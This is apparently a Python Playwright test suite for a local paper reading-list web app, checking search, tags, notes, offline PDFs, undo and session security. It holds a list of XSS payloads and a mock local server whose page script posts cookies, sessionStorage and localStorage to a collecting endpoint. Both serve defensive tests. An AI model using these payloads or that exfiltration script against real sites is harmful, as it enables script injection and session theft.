"""The reading-list page in real headless Chromium against the real library routes: search, tags, notes,
read / unread, the PDF offline, delete and undo; hostile titles and authors render as text."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from playwright.async_api import Browser, Page, expect

from tests.support.library_site import LibrarySite
from tests.support.paper_server import PaperServer

pytestmark = pytest.mark.browser

XSS = [
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "{{7*7}}",
    "${alert(1)}",
    "\u202eevil title",
    "javascript:alert(1)",
    "L" * 3000,
]


@pytest.fixture
def site(tmp_path: Path) -> Iterator[LibrarySite]:
    with PaperServer() as papers:
        papers.add(
            "2307.12345",
            title="Sparse Autoencoders Find Interpretable Features",
            authors=["Ada Lovelace", "Alan Turing"],
            summary="We study dictionary learning on activations.",
        )
        papers.add(
            "2310.00002",
            title="Diffusion Models for Weather",
            authors=["Grace Hopper"],
            summary="Forecasting with score-based models.",
        )
        for n, payload in enumerate(XSS):
            papers.add(f"2401.{n:05d}", title=payload, authors=[payload, "Normal Author"], summary=payload)
        with LibrarySite(tmp_path / "home", papers) as s:
            ids = ["2307.12345", "2310.00002", *[f"2401.{n:05d}" for n in range(len(XSS))]]
            s.call(s.store.update_states({pid: {"saved": True} for pid in ids}))
            s.call(s.store.update_state("2307.12345", tags=["interp"]))
            for pid in ids:
                s.wait_downloaded(pid)
            papers.stop()  # everything below runs offline
            yield s


async def until(check: Callable[[], Any], timeout: float = 15) -> Any:
    for _ in range(int(timeout / 0.05)):
        value = check()
        if value:
            return value
        await asyncio.sleep(0.05)
    raise AssertionError("condition never held")


def card(page: Page, paper_id: str) -> Any:
    return page.locator(f'li.card[data-id="{paper_id}"]')


async def open_page(browser: Browser, site: LibrarySite) -> tuple[Page, list[str], list[str]]:
    context = await browser.new_context()
    page = await context.new_page()
    dialogs: list[str] = []
    problems: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), asyncio.ensure_future(d.dismiss())))
    page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: problems.append(str(e)))
    await page.goto(site.login_url())
    assert page.url == f"{site.url}/library/"
    await page.wait_for_selector('body[data-ready="true"]')
    return page, dialogs, problems


async def test_hostile_titles_and_authors_render_as_text(chromium: Browser, site: LibrarySite) -> None:
    page, dialogs, problems = await open_page(chromium, site)
    await page.wait_for_selector("li.card >> nth=9")
    assert await page.locator("#list img, #list script, #list svg, #list iframe, #list object").count() == 0
    for n, payload in enumerate(XSS):
        item = card(page, f"2401.{n:05d}")
        assert await item.locator(".title").text_content() == payload
        assert await item.locator(".authors").text_content() == f"{payload}, Normal Author"
        assert await item.locator(".abstract p").text_content() == payload
    hrefs = await page.eval_on_selector_all("#list a[href]", "els => els.map(e => e.href)")
    assert hrefs and all(h.startswith(("https://arxiv.org/abs/", f"{site.url}/library/pdf/")) for h in hrefs)
    await page.wait_for_timeout(300)  # give a stray onerror handler the chance to fire
    assert dialogs == []
    assert problems == []


async def test_search_tags_notes_read_pdf_delete_and_undo(chromium: Browser, site: LibrarySite) -> None:
    page, dialogs, problems = await open_page(chromium, site)
    sae = card(page, "2307.12345")
    weather = card(page, "2310.00002")

    # Search over title, abstract, authors and notes.
    await page.fill("#search", "dictionary learning")
    await until(lambda: True)
    await expect(page.locator("li.card")).to_have_count(1)
    await expect(sae).to_be_visible()
    await page.fill("#search", "hopper")
    await expect(page.locator("li.card")).to_have_count(1)
    await expect(weather).to_be_visible()
    await page.fill("#search", "")

    # Tags: add one, filter by it, remove one.
    await weather.locator(".tag-input").fill("climate")
    await weather.locator(".tag-input").press("Enter")
    await until(lambda: site.store.get_state("2310.00002").tags == ("climate",))
    await page.select_option("#tag", "climate")
    await expect(page.locator("li.card")).to_have_count(1)
    await expect(weather).to_be_visible()
    await page.select_option("#tag", "interp")
    await expect(page.locator("li.card")).to_have_count(1)
    await expect(sae).to_be_visible()
    await sae.locator(".tag button").click()
    await until(lambda: site.store.get_state("2307.12345").tags == ())
    await page.select_option("#tag", "")

    # A note is saved to the store and to notes.md in the plain folder; search finds it.
    await sae.locator(".note").fill("Read on the plane: section 3")
    await sae.locator(".note").blur()
    await until(lambda: site.store.get_state("2307.12345").note == "Read on the plane: section 3")
    notes = site.config.paths.library_dir / "2307.12345" / "notes.md"
    await until(lambda: notes.exists() and notes.read_text() == "Read on the plane: section 3")
    await page.fill("#search", "plane")
    await expect(page.locator("li.card")).to_have_count(1)
    await expect(sae).to_be_visible()
    await page.fill("#search", "")

    # Read / unread, and the state filter.
    await sae.locator(".read-toggle").click()
    await until(lambda: site.store.get_state("2307.12345").read)
    await expect(sae.locator(".badge")).to_have_text("Read")
    await page.select_option("#state", "unread")
    await expect(sae).to_have_count(0)
    await page.select_option("#state", "read")
    await expect(page.locator("li.card")).to_have_count(1)
    await sae.locator(".read-toggle").click()
    await until(lambda: not site.store.get_state("2307.12345").read)
    await expect(sae).to_have_count(0)  # no longer read: the "read" filter hides it
    await page.select_option("#state", "all")
    await expect(sae.locator(".badge")).to_have_text("Unread")

    # The PDF opens from the library, with every paper server gone: fetched with the page's session header (a
    # plain link could not send it) and shown from a blob: URL in a new tab.
    async with (
        page.expect_response(f"{site.url}/library/pdf/2307.12345") as pdf_info,
        page.expect_popup() as popup_info,
    ):
        await sae.locator(".pdf").click()
    pdf = await pdf_info.value
    assert pdf.status == 200 and pdf.headers["content-type"] == "application/pdf"
    popup = await popup_info.value
    await popup.wait_for_url(lambda url: url.startswith(f"blob:{site.url}/"))
    assert await popup.evaluate("document.contentType") == "application/pdf"
    await popup.close()

    # Delete, then undo.
    before = await page.locator("li.card").count()
    await weather.locator(".delete").click()
    await page.wait_for_selector("#toast:not([hidden])")
    await expect(weather).to_have_count(0)
    await until(lambda: not site.store.get_state("2310.00002").saved)
    assert not (site.config.paths.library_dir / "2310.00002").exists()
    await page.click("#toast-undo")
    await weather.wait_for()
    await expect(page.locator("li.card")).to_have_count(before)
    await until(lambda: site.store.get_state("2310.00002").saved)
    assert site.store.get_state("2310.00002").tags == ("climate",)
    assert list((site.config.paths.library_dir / "2310.00002").glob("*.pdf"))

    # Sorting by title puts "Diffusion" before "Sparse".
    await page.select_option("#sort", "title-asc")
    ids = await page.eval_on_selector_all("li.card", "els => els.map(e => e.dataset.id)")
    assert ids.index("2310.00002") < ids.index("2307.12345")
    assert dialogs == [] and problems == []


async def test_without_a_session_the_page_says_how_to_get_in(chromium: Browser, site: LibrarySite) -> None:
    context = await chromium.new_context()
    page = await context.new_page()
    await page.goto(f"{site.url}/library/")
    await page.wait_for_selector('body[data-ready="error"]')
    assert "papertray open" in (await page.text_content("#message") or "")
    assert await page.locator("li.card").count() == 0
    # A used link does not open a session.
    url = site.login_url()
    await page.goto(url)
    await page.goto(url)
    assert "already used" in (await page.text_content("body") or "")
    await context.close()


async def test_a_login_link_followed_from_another_site_still_opens_the_list(
    chromium: Browser, site: LibrarySite
) -> None:
    # SameSite=Strict keeps the cookie off cross-site requests; the page's own fetches are same-site, so a link
    # clicked in another site's page (or opened by the extension) still ends in a working reading list.
    context = await chromium.new_context()
    page = await context.new_page()
    await page.goto("data:text/html,<a id=go href='" + site.login_url() + "'>open</a>")
    await page.click("#go")
    await page.wait_for_selector('body[data-ready="true"]')
    assert await page.locator("li.card").count() == 2 + len(XSS)
    await context.close()


class OtherLocalServer:
    """Another server on 127.0.0.1, on its own port, as any local program can run: it records everything the
    browser sends it, under any path (`/library/…` included, where the old session cookie was scoped)."""

    PAGE = (
        "<!doctype html><title>other</title><img src='/library/pixel.png'>"
        "<script>fetch('/library/api/papers', {credentials: 'include'});"
        "fetch('/report', {method: 'POST', body: JSON.stringify({cookie: document.cookie,"
        " session: JSON.stringify(sessionStorage), local: JSON.stringify(localStorage)})});</script>"
    )

    def __init__(self) -> None:
        self.received: list[dict[str, str]] = []
        self.reports: list[str] = []
        self.runner: web.AppRunner | None = None
        self.port = 0

    async def handle(self, request: web.Request) -> web.Response:
        self.received.append(dict(request.headers))
        if request.path == "/report":
            self.reports.append(await request.text())
        return web.Response(text=self.PAGE, content_type="text/html")

    async def __aenter__(self) -> OtherLocalServer:
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self.handle)
        self.runner = web.AppRunner(app, access_log=None)
        await self.runner.setup()
        site = web.TCPSite(self.runner, "127.0.0.1", 0)
        await site.start()
        self.port = int(self.runner.addresses[0][1])
        return self

    async def __aexit__(self, *exc: object) -> None:
        assert self.runner is not None
        await self.runner.cleanup()


async def replays(site: LibrarySite, received: list[dict[str, str]]) -> list[int]:
    """Replay every header value the other server got, as a cookie and as the page's session header."""
    statuses = []
    async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as http:
        for headers in received:
            for name, value in headers.items():
                if name.lower() in ("host", "content-length"):
                    continue
                candidates = {value, *re.findall(r"[A-Za-z0-9_-]{20,}", value)}
                for candidate in candidates:
                    for sent in ({"Cookie": candidate}, {"X-Papertray-Session": candidate}, {name: value}):
                        async with http.get(f"{site.url}/library/api/papers", headers=sent) as response:
                            statuses.append(response.status)
    return statuses


async def test_s3_another_local_port_receives_nothing_it_can_replay(chromium: Browser, site: LibrarySite) -> None:
    page, _dialogs, _problems = await open_page(chromium, site)
    await card(page, "2307.12345").locator(".read-toggle").click()
    await until(lambda: site.store.get_state("2307.12345").read)
    secret = await page.evaluate("sessionStorage.getItem('papertray-session')")
    assert secret and len(secret) >= 40
    async with OtherLocalServer() as other:
        # The user visits another local server in a new tab, and in the reading list's own tab.
        visitor = await page.context.new_page()
        await visitor.goto(f"http://127.0.0.1:{other.port}/library/")
        await until(lambda: len(other.reports) == 1 and len(other.received) >= 3)
        await page.goto(f"http://127.0.0.1:{other.port}/library/api/papers")
        await until(lambda: len(other.reports) == 2)
        received = list(other.received)
    everything = json.dumps(received) + json.dumps(other.reports)
    assert secret not in everything
    assert not any("cookie" in {k.lower() for k in headers} for headers in received), "no cookie reached it"
    statuses = await replays(site, received)
    assert statuses and set(statuses) <= {401, 403}, "nothing it received opens the reading list"
    assert site.store.get_state("2307.12345").saved, "the replays changed nothing"


async def test_s4_the_launcher_file_opens_the_list_in_real_chromium(chromium: Browser, site: LibrarySite) -> None:
    launcher = site.launcher_file()
    assert launcher.exists()
    context = await chromium.new_context()
    page = await context.new_page()
    await page.goto(launcher.as_uri())
    await page.wait_for_selector('body[data-ready="true"]')
    assert page.url == f"{site.url}/library/"
    assert await page.locator("li.card").count() == 2 + len(XSS)
    assert not launcher.exists(), "the file is deleted once used"
    # A reload keeps the session (it lives in the tab's sessionStorage) and repeats no login.
    await page.reload()
    await page.wait_for_selector('body[data-ready="true"]')
    assert page.url == f"{site.url}/library/"
    # Ending every session (CLI, tray, `token revoke --all`) locks the open page out at its next request.
    assert await asyncio.to_thread(site.end_sessions) == 1
    await page.reload()
    await page.wait_for_selector('body[data-ready="error"]')
    assert "papertray open" in (await page.text_content("#message") or "")
    await context.close()


async def test_16_the_page_searches_every_paper_or_the_reading_list_in_full_text(
    chromium: Browser, site: LibrarySite
) -> None:
    page, dialogs, problems = await open_page(chromium, site)
    await page.select_option("#scope", "everything")
    await page.fill("#search", "dictionary learn*")
    result = page.locator('#results li.result[data-id="2307.12345"]')
    await expect(result).to_be_visible()
    assert await result.locator(".title").text_content() == "Sparse Autoencoders Find Interpretable Features"
    assert [m.lower() for m in await result.locator(".snippet mark").all_text_contents()] == ["dictionary", "learning"]
    assert await page.locator("#list").is_hidden()
    # Hostile titles come back as text from the index too.
    await page.fill("#search", '"Normal Author"')
    await expect(page.locator("#results li.result")).to_have_count(len(XSS))
    assert await page.locator("#results img, #results script, #results svg, #results iframe").count() == 0
    await page.fill("#search", 'a"b OR (c')  # FTS syntax is searched literally: an answer, not an error
    await expect(page.locator("#empty")).to_have_text("No paper matches this search.")
    await page.select_option("#scope", "list")
    await page.fill("#search", "weather")
    await expect(card(page, "2310.00002")).to_be_visible()
    assert await page.locator("#results").is_hidden()
    await page.wait_for_timeout(300)
    assert dialogs == [] and problems == []
